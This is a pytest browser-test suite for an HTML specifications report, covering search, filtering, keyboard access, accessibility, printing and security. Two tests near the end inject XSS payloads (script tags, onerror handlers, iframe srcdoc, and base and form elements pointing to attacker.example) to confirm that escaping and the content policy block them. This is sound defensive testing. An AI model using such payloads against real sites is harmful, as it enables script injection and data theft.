"""The page in a real browser: searching, filtering, keyboard, phone, dark, printed, without scripts, under attack."""

import itertools
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import CONFIG, Repo
from tests.report.browser import Browser, chromium, needs_chromium
from tests.report.project import hostile_project, page_of, shop, world

pytestmark = needs_chromium

READY = "document.documentElement.dataset.ready === 'yes'"
VISIBLE = "[...document.querySelectorAll('{}')].filter(e => e.checkVisibility({{contentVisibilityAuto: false}})).length"


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The reports of a friendly and of a hostile repository."""
    folder = tmp_path_factory.mktemp("pages")
    (folder / "gitconfig").write_text(CONFIG)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GIT_CONFIG_GLOBAL", str(folder / "gitconfig"))
        patch.setenv("GIT_CONFIG_NOSYSTEM", "1")
        for date in ("AUTHOR", "COMMITTER"):
            patch.setenv(f"GIT_{date}_DATE", "2026-11-21T10:00:00+00:00")
        made = {"shop": shop, "hostile": hostile_project, "world": world}
        return {name: page_of(make(Repo.init(folder / name / "repo"))) for name, make in made.items()}


@pytest.fixture(scope="module")
def running() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


@pytest.fixture
def browser(running: Browser) -> Iterator[Browser]:
    """A window of a desktop; a test fails when the page logs, throws, breaks its policy or asks for an address."""
    running.console.clear()
    running.requests.clear()
    running.size(1280, 900)
    running.media(prefers_color_scheme="light")
    running.scripting(on=True)
    yield running
    assert running.console == []
    assert {address.split("#")[0] for address in running.requests if not address.startswith("file:")} <= {"about:blank"}


def view(browser: Browser) -> str:
    return str(browser.eval("document.querySelector('.view.on').id"))


def tab_to(browser: Browser, selector: str) -> None:
    """Press Tab until the element has the focus."""
    for _ in range(60):
        browser.key("Tab")
        if browser.eval(f"document.activeElement.matches('{selector}')"):
            return
    raise AssertionError(f"Tab never reaches {selector}")


def test_it_opens_on_the_overview_and_asks_for_nothing(browser: Browser, pages: dict[str, Path]) -> None:
    browser.open(pages["shop"])
    assert browser.eval(READY) and view(browser) == "overview-view"
    assert browser.eval("document.querySelector('.gap h4').textContent") == "2 requirements without a test"
    assert len({a for a in browser.requests if a.startswith("file:")}) == 1


def test_search_by_keyboard_finds_and_counts(browser: Browser, pages: dict[str, Path]) -> None:
    browser.open(pages["shop"], "#specs")
    assert browser.eval("document.querySelector('#specs-n').textContent") == "3 requirements"
    tab_to(browser, "#specs-q")
    browser.type("enrol DEVICE")
    browser.until("document.querySelector('#specs-n').textContent === '1 of 3 requirements'")
    assert browser.eval(VISIBLE.format(".req")) == 1
    assert browser.eval("document.querySelector('.group:not([hidden]) h3 code').textContent") == "auth"
    assert browser.eval("[...document.querySelectorAll('.outline li')].map(li => li.hidden)") == [False, True]
    assert browser.eval("CSS.highlights.get('found').size") > 1
    browser.key("Escape")
    browser.until("document.querySelector('#specs-n').textContent === '3 requirements'")
    browser.type("test_login.py")
    browser.until("document.querySelector('#specs-n').textContent === '1 of 3 requirements'")
    browser.type(" nowhere")
    browser.until("document.querySelector('#specs-n').textContent === '0 of 3 requirements'")
    assert browser.eval("document.querySelector('#specs-view .nothing').checkVisibility()")


def test_a_search_before_the_texts_are_built_finds_the_same(browser: Browser, pages: dict[str, Path]) -> None:
    browser.open(pages["shop"], "#archive")
    browser.eval("document.querySelector('#specs-q').value = '15 minutes'")
    browser.eval("document.querySelector('#specs-q').dispatchEvent(new Event('input'))")
    browser.until("document.querySelector('#specs-n').textContent === '0 of 3 requirements'")
    browser.eval("document.querySelector('#specs-q').value = '30 minutes'")
    browser.eval("document.querySelector('#specs-q').dispatchEvent(new Event('input'))")
    browser.until("document.querySelector('#specs-n').textContent === '2 of 3 requirements'")
    browser.eval("location.hash = '#specs?q=30%20minutes'")
    browser.until(f"{VISIBLE.format('.req')} === 2")


def test_the_archive_is_searched_by_commit_and_release(browser: Browser, pages: dict[str, Path]) -> None:
    browser.open(pages["shop"], "#archive")
    tab_to(browser, "#archive-q")
    browser.type("enrol devices v1.0")
    browser.until("document.querySelector('#archive-n').textContent === '1 of 1 change'")
    browser.type("x")
    browser.until("document.querySelector('#archive-n').textContent === '0 of 1 change'")


def test_the_matrix_is_filtered_by_keyboard(browser: Browser, pages: dict[str, Path]) -> None:
    browser.open(pages["shop"], "#matrix")
    rows = "[...document.querySelectorAll('#m-rows tr')].map(r => r.querySelector('code').textContent)"
    assert browser.eval(rows) == ["billing/session-expiry", "auth/totp-enrolment", "auth/session-expiry"]  # gaps first
    tab_to(browser, "#m-tests")
    browser.key("ArrowDown")
    browser.until("document.querySelector('#m-n').textContent === '1 of 3 requirements'")
    assert browser.eval(rows) == ["auth/session-expiry"]
    browser.key("ArrowDown")
    browser.until("document.querySelector('#m-n').textContent === '2 of 3 requirements'")
    tab_to(browser, "#m-commits")
    browser.key("ArrowDown")
    browser.until("document.querySelector('#m-n').textContent === '1 of 3 requirements'")
    assert browser.eval(rows) == ["auth/totp-enrolment"]
    assert browser.eval("location.hash") == "#matrix?tests=without&commits=with"
    tab_to(browser, "#m-clear")
    browser.key("Enter")
    browser.until("document.querySelector('#m-n').textContent === '3 requirements'")
    assert browser.eval("document.activeElement.id") == "m-q"
    browser.type("short-sessions")
    browser.until("document.querySelector('#m-n').textContent === '1 of 3 requirements'")


def test_a_filter_can_be_sent_as_an_address(browser: Browser, pages: dict[str, Path]) -> None:
    browser.open(pages["shop"], "#matrix?capability=billing&tests=without")
    assert browser.eval("document.querySelector('#m-n').textContent") == "1 of 3 requirements"
    browser.open(pages["shop"], "#matrix?capability=no-such&order=%F0%28&q=%ff")
    assert view(browser) in ("matrix-view", "overview-view")


def test_a_gap_leads_to_all_of_its_kind(browser: Browser, pages: dict[str, Path]) -> None:
    browser.open(pages["shop"])
    tab_to(browser, '.gap a[href="#spec/billing/session-expiry"]')
    browser.key("Enter")
    browser.until("document.querySelector('.view.on').id === 'specs-view'")
    assert browser.eval("document.activeElement.closest('article').id") == "spec/billing/session-expiry"


@pytest.mark.parametrize(
    ("fragment", "where", "focused"),
    [
        ("#spec/auth/totp-enrolment", "specs-view", "Totp enrolment"),
        ("#spec/auth/session-expiry:idle-timeout", "specs-view", "Idle timeout"),
        ("#spec/billing", "specs-view", "Billing"),
        ("#change/add-2fa", "archive-view", "Two-factor authentication"),
        ("#change/short-sessions", "changes-view", "Shorter sessions"),
        ("#auth/session-expiry", "specs-view", "Session expiry"),
        ("#auth/session-expiry#idle-timeout", "specs-view", "Idle timeout"),
        ("#auth", "specs-view", "Authentication"),
        ("#add-2fa", "archive-view", "Two-factor authentication"),
    ],
)
def test_a_link_to_one_thing_shows_it(
    browser: Browser, pages: dict[str, Path], fragment: str, where: str, focused: str
) -> None:
    browser.open(pages["shop"], fragment)
    assert view(browser) == where
    browser.until(f"document.activeElement.textContent.startsWith('{focused}')")
    top = browser.eval("document.activeElement.getBoundingClientRect().top")
    assert 0 <= top < 900


def test_other_scripts_are_searched_linked_and_turned_the_right_way(browser: Browser, pages: dict[str, Path]) -> None:
    browser.open(pages["world"], "#spec/konten/%E4%BC%9A%E8%AF%9D-%E8%BF%87%E6%9C%9F:stra%C3%9Fe")
    browser.until("document.activeElement.textContent.startsWith('Straße')")
    assert browser.eval("document.querySelector('.req h4 a').matches(':dir(rtl)')")
    assert browser.eval("document.querySelector('.req .text p').matches(':dir(ltr)')")
    browser.open(pages["world"], "#specs")
    tab_to(browser, "#specs-q")
    browser.type("会话 STRASSE")
    browser.until("document.querySelector('#specs-n').textContent === '0 of 1 requirement'")
    browser.key("Escape")
    browser.type("会话。")
    browser.until("document.querySelector('#specs-n').textContent === '1 of 1 requirement'")
    browser.open(pages["world"], "#matrix?tests=with&q=会话")
    assert browser.eval("document.querySelectorAll('#m-rows tr').length") == 1


@pytest.mark.parametrize("fragment", ["#spec/none", "#change/none", "#%", "#constructor", "#__proto__", "#matrix?%"])
def test_an_address_that_leads_nowhere_breaks_nothing(browser: Browser, pages: dict[str, Path], fragment: str) -> None:
    browser.open(pages["shop"], fragment)
    assert browser.eval(READY) and browser.eval("document.querySelectorAll('.view.on').length") == 1
    told = browser.eval("document.querySelector('#missing').checkVisibility()")
    assert told is (fragment not in ("#%", "#matrix?%"))


def test_an_address_that_leads_nowhere_is_told_until_another_leads_somewhere(
    browser: Browser, pages: dict[str, Path]
) -> None:
    browser.open(pages["shop"], "#spec/auth/gone")
    assert browser.eval("document.activeElement.textContent") == "There is no “auth/gone” on this page."
    browser.eval("location.hash = '#auth/session-expiry'")
    browser.until("!document.querySelector('#missing').checkVisibility()")


def test_a_former_name_leads_to_the_requirement(browser: Browser, pages: dict[str, Path]) -> None:
    browser.open(pages["shop"])
    page = pages["shop"].parent / "renamed.html"
    html = pages["shop"].read_text()
    page.write_text(html.replace('{"was":{}', '{"was":{"auth/old-name":"auth/totp-enrolment"}', 1))
    browser.open(page, "#spec/auth/old-name")
    browser.until("document.activeElement.textContent.startsWith('Totp enrolment')")


def test_back_leads_to_the_same_place_of_the_same_search(browser: Browser, pages: dict[str, Path]) -> None:
    browser.size(1280, 300)
    browser.open(pages["shop"], "#specs")
    tab_to(browser, "#specs-q")
    browser.type("30 minutes")
    browser.until("document.querySelector('#specs-n').textContent === '2 of 3 requirements'")
    assert browser.eval("location.hash") == "#specs?q=30+minutes"
    tab_to(browser, 'h4 a[href="#spec/billing/session-expiry"]')
    top = browser.eval("window.scrollY")
    assert top > 0
    browser.key("Enter")
    browser.until("location.hash === '#spec/billing/session-expiry'")
    browser.eval("history.back()")
    browser.until("location.hash === '#specs?q=30+minutes'")
    browser.until(f"Math.abs(window.scrollY - {top}) < 3")
    assert browser.eval("document.activeElement.hash") == "#spec/billing/session-expiry"
    assert browser.eval("document.querySelector('#specs-q').value") == "30 minutes"


def test_rows_that_were_asked_for_are_there_after_going_back(browser: Browser, pages: dict[str, Path]) -> None:
    browser.open(pages["shop"], "#matrix?tests=without")
    browser.eval("document.querySelector('#m-rows tr').dataset.seen = 'yes'")
    tab_to(browser, '#m-rows a[href="#spec/auth/totp-enrolment"]')
    browser.key("Enter")
    browser.until("document.querySelector('.view.on').id === 'specs-view'")
    browser.eval("history.back()")
    browser.until("document.querySelector('.view.on').id === 'matrix-view'")
    assert browser.eval("document.querySelector('#m-rows tr').dataset.seen") == "yes"
    assert browser.eval("document.activeElement.hash") == "#spec/auth/totp-enrolment"


@pytest.mark.parametrize(
    ("fragment", "field"), [("", "specs-q"), ("#changes", "specs-q"), ("#archive", "archive-q"), ("#matrix", "m-q")]
)
def test_a_slash_leads_to_the_search(browser: Browser, pages: dict[str, Path], fragment: str, field: str) -> None:
    browser.open(pages["shop"], fragment)
    browser.key("/")
    assert browser.eval("document.activeElement.id") == field
    browser.type("a")
    browser.key("/")
    assert browser.eval("document.activeElement.value") == "a/", "in a field it is a letter"


def test_the_keyboard_reaches_all_and_the_focus_shows(browser: Browser, pages: dict[str, Path]) -> None:
    browser.open(pages["shop"])
    browser.key("Tab")
    assert browser.eval("document.activeElement.className") == "skip"
    assert browser.eval("document.activeElement.getBoundingClientRect().top") >= 0
    browser.key("Enter")
    assert browser.eval("document.activeElement.id") == "main"
    browser.open(pages["shop"])
    tab_to(browser, '.top a[href="#changes"]')
    assert browser.eval("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    browser.key("Enter")
    browser.until("document.querySelector('.view.on').id === 'changes-view'")
    assert browser.eval("document.activeElement.id") == "changes-h"
    assert browser.eval("document.querySelector('.top a[aria-current=page]').hash") == "#changes"
    assert browser.eval("document.title") == "Active changes – Specifications"
    tab_to(browser, "summary")
    browser.key("Enter")
    assert browser.eval("document.activeElement.parentElement.open")


def test_a_screen_reader_hears_landmarks_labels_and_what_is_found(browser: Browser, pages: dict[str, Path]) -> None:
    browser.open(pages["shop"], "#matrix")
    heard = browser.accessible()
    for expected in (
        ("banner", ""),
        ("navigation", "Sections"),
        ("main", ""),
        ("contentinfo", ""),
        ("heading", "Traceability matrix"),
        ("search", "Matrix"),
        ("searchbox", "Text"),
        ("combobox", "Capability"),
        ("table", "Traceability matrix"),
        ("columnheader", "Release"),
    ):
        assert expected in heard, expected
    assert any(role == "rowheader" and "auth/session-expiry" in name for role, name in heard)
    assert any(role == "status" for role, _ in heard)
    browser.size(390, 844, mobile=True)
    heard = browser.accessible()
    assert ("table", "Traceability matrix") in heard and any(role == "cell" for role, _ in heard)
    browser.size(1280, 900)
    browser.open(pages["shop"], "#specs")
    browser.until("document.querySelectorAll('.req').length === 3")
    heard = browser.accessible()
    assert ("searchbox", "Search in names, texts, scenarios, tests and changes") in heard
    assert ("navigation", "Capabilities") in heard and ("heading", "Idle timeout") in heard


def test_headings_never_skip_a_level_and_ids_are_used_once(browser: Browser, pages: dict[str, Path]) -> None:
    for fragment in ("", "#specs", "#changes", "#archive", "#matrix"):
        browser.open(pages["shop"], fragment)
        browser.until("[...document.querySelectorAll('.view.on noscript')].length === 0")
        script = (
            "[...document.querySelectorAll('h1,h2,h3,h4,h5')].filter(h => h.checkVisibility()).map(h => +h.tagName[1])"
        )
        levels = browser.eval(script)
        assert levels[0] == 1 and all(b <= a + 1 for a, b in itertools.pairwise(levels)), (fragment, levels)
        ids = browser.eval("[...document.querySelectorAll('[id]')].map(e => e.id)")
        assert len(ids) == len(set(ids))


@pytest.mark.parametrize("name", ["shop", "hostile"])
@pytest.mark.parametrize("width", [320, 390])
def test_nothing_is_wider_than_a_phone(browser: Browser, pages: dict[str, Path], name: str, width: int) -> None:
    browser.size(width, 700, mobile=True)
    for fragment in ("", "#specs", "#changes", "#archive", "#matrix"):
        browser.open(pages[name], fragment)
        browser.until("[...document.querySelectorAll('.view.on noscript')].length === 0")
        browser.eval("document.querySelectorAll('details').forEach(d => { d.open = true; })")
        assert browser.eval("document.documentElement.scrollWidth") <= width, fragment


def test_dark_mode_is_dark(browser: Browser, pages: dict[str, Path]) -> None:
    back = "getComputedStyle(document.body).backgroundColor"
    browser.open(pages["shop"])
    assert browser.eval(back) == "rgb(247, 247, 245)"
    browser.media(prefers_color_scheme="dark")
    assert browser.eval(back) == "rgb(20, 23, 26)"


def test_printing_from_the_overview_prints_everything_without_controls(
    browser: Browser, pages: dict[str, Path]
) -> None:
    browser.open(pages["shop"])
    whole = browser.pdf()
    assert whole.startswith(b"%PDF-") and pages_in(whole) >= 3
    browser.media(media="print")
    assert browser.eval(VISIBLE.format(".req")) == 3 and browser.eval(VISIBLE.format("#m-rows tr")) == 3
    assert browser.eval(VISIBLE.format("input, select, button, .top nav, .skip")) == 0
    shown = browser.eval("document.querySelector('.history').getBoundingClientRect().height")
    assert shown > 0, "what is folded on the screen is printed"


def test_printing_from_another_view_prints_that_view_as_filtered(browser: Browser, pages: dict[str, Path]) -> None:
    browser.open(pages["shop"], "#matrix?tests=without")
    assert pages_in(browser.pdf()) == 1
    browser.media(media="print")
    assert browser.eval(VISIBLE.format(".req")) == 0 and browser.eval(VISIBLE.format("#m-rows tr")) == 2


def test_without_scripts_the_specs_can_be_read(browser: Browser, pages: dict[str, Path], tmp_path: Path) -> None:
    browser.scripting(on=False)
    browser.size(1280, 6000)
    browser.open_unscripted(pages["shop"])
    browser.screenshot(tmp_path / "drawn.png")
    heard = {name for _, name in browser.accessible()}
    assert "The system MUST let a user enrol a device." in heard
    assert any("The matrix needs JavaScript" in name for name in heard)
    assert any("Two-factor authentication" in name for name in heard)
    assert not any(name.startswith("Search in") for name in heard), "no control is there that does nothing"


# Spec: history/report-page#hostile-spec
def test_hostile_specs_run_nothing_and_break_no_policy(browser: Browser, pages: dict[str, Path]) -> None:
    for fragment in ("", "#specs", "#changes", "#archive", "#matrix", "#spec/evil/attack", "#spec/evil/attack:body"):
        browser.open(pages["hostile"], fragment)
        browser.until("[...document.querySelectorAll('.view.on noscript')].length === 0")
        browser.eval("document.querySelectorAll('details').forEach(d => { d.open = true; })")
        assert browser.eval("typeof window.owned") == "undefined"
        odd = "script:not([id]) ~ script:not([id]), img, svg, iframe, form, base, link, object, embed, math, [style]:not(.group)"
        assert browser.eval(f"document.querySelectorAll('{odd}').length") == 0
        links = browser.eval("[...document.querySelectorAll('a')].map(a => a.getAttribute('href'))")
        assert all(link.startswith("#") for link in links)
        handlers = (
            "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on'))"
        )
        assert browser.eval(handlers) == []
    browser.open(pages["hostile"], "#specs")
    tab_to(browser, "#specs-q")
    browser.type("<script>window.owned = 1</script>")
    browser.until("document.querySelector('#specs-n').textContent === '1 of 3 requirements'")
    assert "<script>window.owned = 1</script>" in browser.eval("document.querySelector('.req').textContent")


def test_the_policy_stops_what_the_escaping_would_miss(browser: Browser, pages: dict[str, Path]) -> None:
    """The second wall: markup that has come into the page all the same can do nothing."""
    html = pages["shop"].read_text()
    bad = (
        "<script>window.owned = 1</script><img src=x onerror='window.owned = 2'><p style='color: red'>x</p>"
        "<iframe srcdoc='<script>parent.owned = 3</script>'></iframe><base href='https://attacker.example/'>"
        "<form action='https://attacker.example/'><button id=send>x</button></form>"
    )
    page = pages["shop"].parent / "broken.html"
    page.write_text(html.replace('<section id="overview"', f'{bad}<section id="overview"', 1))
    browser.open(page)
    browser.eval("document.getElementById('send').click()")
    browser.eval(
        "try { document.body.insertAdjacentHTML('beforeend', '<b>x</b>') } catch (error) { window.stopped = 1 }"
    )
    browser.eval("try { window.eval('window.owned = 4') } catch (error) { window.stopped += 1 }")
    assert browser.eval("window.stopped") == 2 and browser.eval("typeof window.owned") == "undefined"
    assert browser.eval("document.baseURI").startswith("file:")
    assert browser.eval("getComputedStyle(document.querySelector('p[style]')).color") != "rgb(255, 0, 0)"
    assert len(browser.console) >= 5, "the browser says what it stopped"
    assert not any("attacker" in address for address in browser.requests)
    browser.console.clear()


def pages_in(pdf: bytes) -> int:
    return pdf.count(b"/Type /Page\n") + pdf.count(b"/Type /Page ") + pdf.count(b"/Type /Page/")


def test_a_text_of_a_megabyte_opens_at_once(browser: Browser, pages: dict[str, Path]) -> None:
    started = time.monotonic()
    browser.open(pages["hostile"], "#spec/huge/text")
    assert view(browser) == "specs-view" and time.monotonic() - started < 20
